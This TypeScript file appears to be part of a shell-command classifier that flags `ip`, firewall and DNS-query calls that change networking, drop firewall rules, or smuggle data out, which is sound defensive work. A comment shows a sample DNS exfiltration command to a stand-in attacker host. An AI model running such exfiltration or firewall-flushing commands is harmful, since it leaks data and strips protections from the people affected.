import type { Verdict } from './effect.ts';
import type { Call, Rule } from './rule.ts';
import { named, say } from './verdicts.ts';
import type { Arg } from './word.ts';

export const changesNet = say('services', 'changes the network');
/** `ip` lets every word be shortened; what isn't a short form of showing changes something. */
const ipShows =
  /^(s|sh|sho|show|l|li|lis|list|ls|lst|get|g|help|save|mo|mon|moni|monit|monito|monitor|identify|pids|showdump|count)$/;
const ipOptions =
  /^--?(4|6|0|B|M|I|d|details|s|ss|stats|statistics|o|oneline|r|resolve|c|color(=\w+)?|br|brief|j|json|p|pretty|t|timestamp|ts|tshort|h|human|human-readable|iec|N|Numeric|n|netns|f|family|l|loops|rc|rcvbuf|V|Version|a-)$/;
const shortens = (word: string, long: string, least: number): boolean =>
  word.length >= least && long.startsWith(word);

export const ipVerdicts = (call: Call): readonly Verdict[] => {
  const [object, ...more] = call.operands;
  if (call.options.some((o) => !ipOptions.test(o.name))) return [changesNet];
  if (!object) return [named.reads];
  const [verb] = more;
  if (object.value === null || verb?.value === null)
    return [say('undecidable', 'gets what to do only when it runs')];
  const isSpace = shortens(object.value, 'netns', 2) || shortens(object.value, 'vrf', 1);
  if (isSpace && verb && shortens(verb.value, 'exec', 1))
    return [say('escalates', 'runs a command in another network'), ...call.runs(more.slice(2))];
  if (verb === undefined || ipShows.test(verb.value)) return [named.reads];
  // `tc qdisc show`, and `ip addr` with what to show.
  return [
    shortens(verb.value, 'flush', 1) ||
    (shortens(object.value, 'link', 1) && call.operands.some((arg) => arg.value === 'down'))
      ? say('stops', 'takes the network down')
      : changesNet,
  ];
};

const drops =
  /^(-F|--fl\w*|-X|--delete-c\w*|flush|--complete-reload|disable|reset|--panic-on)$|^-[a-zA-Z]*F$/;
const changes =
  /^(-Z|--z\w*|-[ADIRNE]|--(a|del|ins|rep|new|ren|mod|set|perm|rel|run)\w*(=.*)?|-M|add|delete|insert|replace|create|destroy|rename|restore|swap|-f|--file|allow|deny|reject|limit|enable|route|logging|default|import|-[a-zA-Z]*[ADIRNEXPZM][a-zA-Z]*)$/;

/** A firewall's command: shows by these words, and changes by any other. */
export const firewall = (lists: RegExp): Rule => ({
  check: (call) => {
    // `nft` takes a whole line in one word.
    const words = call.args.flatMap((arg) => (arg.value ?? '?').split(/[\s;]+/));
    if (words.some((word) => drops.test(word))) return [say('stops', 'drops the firewall’s rules')];
    if (words.some((word) => /^(-P|--pol\w*)$/.test(word)))
      return [say('stops', 'changes what the firewall does by default')];
    return !words.some((word) => changes.test(word)) && words.some((word) => lists.test(word))
      ? [named.reads]
      : [changesNet];
  },
});

const firewalldShows =
  /^--(list-.*|get-.*|info-.*|query-.*|state|version|help|zone=.*|policy=.*|permanent|check-config)$|^-[qhV]$/;

export const firewallCmd = (call: Call): readonly Verdict[] => {
  const words = call.args.map((arg) => arg.value ?? '?');
  if (words.some((word) => /^--(complete-reload|panic-on|reset-to-defaults)$/.test(word)))
    return [say('stops', 'drops the firewall’s rules')];
  return words.every((word) => firewalldShows.test(word)) ? [named.reads] : [changesNet];
};

/**
 * A question to the network. What it asks for can carry data away where its text is put together by the script:
 * `dig "$(cat x).evil.io"`.
 */
export const asksFar = (values: string, data: string): Rule => ({
  is: say('reads', 'asks the network, sends nothing of this machine’s'),
  values,
  namesOnly: true,
  check: (call) => {
    const asksServer =
      call.operands.some((arg) => arg.lead.startsWith('@')) || call.options.some((o) => o.name === '-h');
    const carries = (arg: Arg): boolean =>
      arg.isComposed === true || (asksServer && arg.value === null && /\$\(|`/.test(arg.text));
    const sent = [
      ...call.operands,
      ...call.options.flatMap((o) => (o.name === data && o.value?.value === null ? [o.value] : [])),
    ];
    return sent.some((arg) => carries(arg) || call.options.some((o) => o.name === data && o.value === arg))
      ? [say('sends', 'puts data into what it asks for')]
      : [];
  },
});
